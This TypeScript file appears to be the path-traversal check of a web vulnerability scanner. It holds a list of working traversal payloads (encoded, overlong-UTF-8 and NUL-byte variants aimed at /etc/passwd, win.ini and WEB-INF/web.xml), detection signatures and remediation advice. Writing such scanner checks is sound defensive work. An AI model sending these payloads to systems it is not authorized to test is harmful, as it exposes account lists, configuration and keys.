import type { Canary, InjectionPoint, Outcome, PointCheck, PointProbe, ProbeRequest } from '#scanner/check-api';
import { plain } from '../disclosure/searchable-text.ts';

const telling =
  /file|path|page|doc|template|include|dir|folder|load|read|download|view|content|style|lang|layout|module|pdf|img|image|src/i;
/** What operating systems, languages and libraries say of a file that does not exist; a program that creates it does not say so. */
const noSuchFile =
  /\b[Nn]o such file\b|\bENOENT\b|FileNotFound|NoSuchFile|[Ff]ailed to open stream|[Ff]ailed opening|[Cc]annot find the (?:file|path) specified|[Cc]ould not find (?:a part of the path|file '|the file)|[Cc]annot open file/;
/** Near the error: the program removes or changes the file. */
const changesFile = /\b(?:unlink|rmdir|rename|chmod|chown|truncate|utimes?|delete[ds]?|remove[ds]?|rm|mv)\b/i;
/** In the line before the path to such a file. */
const failed = /\b(?:problem|error|exception|can(?:not|'t)|could(?:n't| not)|unable|fail)[^\n]{0,160}$/i;
const up = '../'.repeat(10);
/** Percent-encoded already: bytes that no text has. */
interface RawPath {
  readonly raw: string;
}

const payloads: readonly (string | RawPath)[] = [
  `${up}etc/passwd`,
  '/etc/passwd',
  'file:///etc/passwd',
  `${'....//'.repeat(10)}etc/passwd`,
  `${'..%2f'.repeat(10)}etc%2fpasswd`,
  `${'%2e%2e/'.repeat(10)}etc/passwd`,
  { raw: `${'..%c0%af'.repeat(10)}etc%c0%afpasswd` },
  `/var/www/html/${up}etc/passwd`,
  `${'..\\'.repeat(10)}windows\\win.ini`,
  `${up}windows/win.ini`,
  `${'..\\'.repeat(10)}etc\\passwd`,
  'C:\\Windows\\win.ini',
  'file:///C:/Windows/win.ini',
  `${'..%5c'.repeat(10)}windows%5cwin.ini`,
  { raw: `${'..%c1%9c'.repeat(10)}windows%c1%9cwin.ini` },
  // The root of a Java web application is no root of the file system: what is inside of it has paths of its own.
  '/WEB-INF/web.xml',
  'WEB-INF/web.xml',
  '../WEB-INF/web.xml',
  '../../WEB-INF/web.xml',
];
/** Characters of a response in which a file error is looked for. */
const maxErrorAt = 100_000;
/** Payloads that depend on the value that the site itself puts there. */
const ownPayloads = 2;

/** Some programs accept only paths that begin with a folder of theirs, or end with an extension: NUL ends a path early. */
function payloadsFor(value: string): readonly (string | RawPath)[] {
  const folder = /^(.{0,100}[\\/])[^\\/]*$/.exec(value)?.[1] ?? 'images/';
  const extension = /\.[a-z\d]{1,5}$/i.exec(value)?.[0] ?? '.png';
  return [...payloads, `${folder}${up}etc/passwd`, `${up}etc/passwd\0${extension}`];
}

/**
 * An entry of the list of accounts, which begins its line or follows markup or a quote, or one of the entries after the
 * first, whatever the page writes before that; or what every win.ini has; or the root element of a deployment descriptor
 * (Jakarta Servlet 6.0, section 14), which pages may encode.
 */
const signature =
  /(?:^|[>"'`=(])\s{0,9}root:[^:\n]{0,20}:0:0:[^\n<]{0,80}|^(?:daemon|bin):[^:\n]{0,20}:\d{1,3}:\d{1,3}:[^:\n]{0,40}:\/[^:\n]{0,40}:\/[^\n<]{0,40}|\[fonts\]\s{0,4}\n|; for 16-bit app support|(?:<|&lt;)web-app(?=[\s>&])[^\n>&]{0,80}/m;

export const pathTraversal: PointCheck = {
  meta: {
    id: 'path-traversal',
    title: 'Path traversal',
    category: 'injection',
    severity: 'high',
    confidence: 'high',
    scan: 'full',
    cwe: [22],
    wstg: ['WSTG-ATHZ-01'],
    references: ['https://owasp.org/www-community/attacks/Path_Traversal'],
    description:
      'The parameter names a file, and `..` or an absolute path leads out of the intended directory. An attacker can read configuration, source code and keys.',
    remediation:
      'Select files by an identifier, or resolve the path and reject what is outside of the directory: `const file = path.resolve(root, name); if (!file.startsWith(root + path.sep)) throw …` (Node.js).',
    needs: [],
    maxRequests: payloads.length + ownPayloads + 1,
    firstPassRequests: 2,
  },
  appliesTo: ({ point, canary }) => tested.has(point.kind) && mayBePath(point, canary),
  probePoint: ({ point }, probe) => tryPaths(point, probe),
};

const tested: ReadonlySet<string> = new Set(['query', 'form', 'json']);

/** Its name or its value suggests a path, or the canary was looked for among files. */
function mayBePath({ name, value }: InjectionPoint, canary: Canary | undefined): boolean {
  if (telling.test(name) || /[./\\]/.test(value)) return true;
  return canary !== undefined && isLookedForAmongFiles(canary);
}

function isLookedForAmongFiles({ token, response }: Canary): boolean {
  const text = plain(response.text.slice(0, maxErrorAt));
  const at = Math.max(text.indexOf(`/${token}`), text.indexOf(`\\${token}`));
  const isError = at >= 0 && failed.test(text.slice(Math.max(0, at - 200), at));
  const errorAt = isError ? at : text.search(noSuchFile);
  return errorAt >= 0 && !changesFile.test(text.slice(Math.max(0, errorAt - 200), errorAt + 200));
}

async function tryPaths(point: InjectionPoint, probe: PointProbe): Promise<Outcome | undefined> {
  for (const payload of payloadsFor(point.value)) {
    const requestWith = (change: (path: string) => string): ProbeRequest =>
      typeof payload === 'string' ? point.request(change(payload)) : point.request(change(payload.raw), { raw: true });
    const request = requestWith((path) => path);
    const response = await probe.fetch(request);
    if (response === undefined) return undefined;
    const line = signature.exec(plain(response.text))?.[0].replace(/^[>"'`=(]/, '');
    if (line === undefined) continue;
    const control = await probe.fetch(requestWith((path) => path.replace(/passwd|win\.ini|web\.xml/, probe.token())));
    if (control === undefined || signature.test(plain(control.text))) return undefined;
    return { url: request.url, evidence: `${point.label}\nresponse: ${line.trim()}` };
  }
  return undefined;
}
